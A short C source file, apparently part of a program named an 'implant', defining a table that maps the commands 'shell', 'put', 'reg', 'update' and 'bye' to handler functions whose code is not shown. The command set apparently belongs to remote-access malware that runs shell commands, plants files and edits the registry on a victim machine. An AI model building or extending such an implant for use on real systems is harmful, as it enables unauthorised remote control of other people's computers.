// The command table, in a file of its own.
#include "implant.h"

const CommandEntry g_commands[] = {
    { "shell", CmdShell },
    { "put", CmdPut },
    { "reg", CmdReg },
    { "update", CmdUpdate },
    { "bye", CmdBye },
};

const size_t g_commandCount = sizeof g_commands / sizeof g_commands[0];
